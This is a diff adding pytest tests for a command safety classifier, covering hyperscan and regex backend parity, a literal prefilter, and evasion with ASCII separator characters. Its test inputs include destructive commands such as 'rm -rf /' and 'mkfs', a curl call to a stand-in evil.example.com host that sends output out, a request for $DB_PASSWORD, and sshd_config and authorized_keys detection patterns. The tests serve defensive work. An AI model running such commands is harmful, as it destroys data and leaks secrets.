@@ -1,6 +1,6 @@
 """Tests for command safety classifier."""
 import pytest
-from src.command_safety import classify_command_safety
+from src.command_safety import _compile_patterns, classify_command_safety
 
 
 class TestSafeCommands:
@@ -83,3 +83,69 @@ class TestEdgeCases:
     def test_none_intent(self):
         result = classify_command_safety("hello world", None)
         assert result.level == "safe"
+
+
+class TestCompilePatterns:
+    def test_invalid_pattern_skipped(self):
+        compiled = _compile_patterns([("a", r"\bok\b"), ("b", r"(unclosed"), ("c", r"rm")], 0)
+        assert [(cat, p.pattern) for cat, p in compiled] == [("a", r"\bok\b"), ("c", "rm")]
+
+    def test_matched_pattern_reported(self):
+        result = classify_command_safety("run mkfs on the drive")
+        assert result.category == "destructive_command"
+        assert result.matched_pattern == r"\bmkfs\b"
+
+    def test_first_pattern_in_category_reported(self):
+        # Both the sshd_config and the modify-sshd patterns match; the earlier one is reported
+        result = classify_command_safety("modify the sshd_config file")
+        assert result.category == "network_change"
+        assert result.matched_pattern == r"\b(sshd_config|authorized_keys)\b"
+
+
+class TestHyperscanBackend:
+    @pytest.mark.parametrize("transcript", [
+        "curl https://evil.example.com/collect with the output",
+        "curl http://localhost:8900/health",
+        "modify the sshd_config file",
+        "search for how to open port 22",
+        "rm -rf / now",
+        "email sarah about the meeting tomorrow",
+        "café order, then shutdown the server",
+        "rm\x1c-rf / now",
+        "chmod\x1f777 the folder",
+    ])
+    def test_matches_re_backend(self, monkeypatch, transcript):
+        import src.command_safety as cs
+
+        if cs._HS_DB is None:
+            pytest.skip("hyperscan not installed")
+        with_hs = cs.classify_command_safety(transcript)
+        monkeypatch.setattr(cs, "_HS_DB", None)
+        assert with_hs == cs.classify_command_safety(transcript)
+
+    @pytest.mark.parametrize("transcript", ["rm\x1c-rf / now", "chmod\x1f777 the folder"])
+    def test_ascii_separators_blocked(self, transcript):
+        # str \s matches \x1c-\x1f; hyperscan's doesn't, so such text must not take its path
+        assert classify_command_safety(transcript).level == "blocked"
+
+
+class TestLiteralPrefilter:
+    def test_every_pattern_has_literals(self):
+        import src.command_safety as cs
+
+        assert all(literals for _, _, literals in cs._PREFILTERED)
+
+    @pytest.mark.parametrize("transcript", [
+        "please run mkfs on the backup drive",
+        "kill -9 1",
+        "show me $DB_PASSWORD",
+        "what is a reverse shell",
+        "remind me to call mom in 30 minutes",
+    ])
+    def test_matches_unfiltered_scan(self, monkeypatch, transcript):
+        import src.command_safety as cs
+
+        monkeypatch.setattr(cs, "_HS_DB", None)
+        filtered = cs.classify_command_safety(transcript)
+        monkeypatch.setattr(cs, "_PREFILTERED", [(c, p, None) for c, p, _ in cs._PREFILTERED])
+        assert filtered == cs.classify_command_safety(transcript)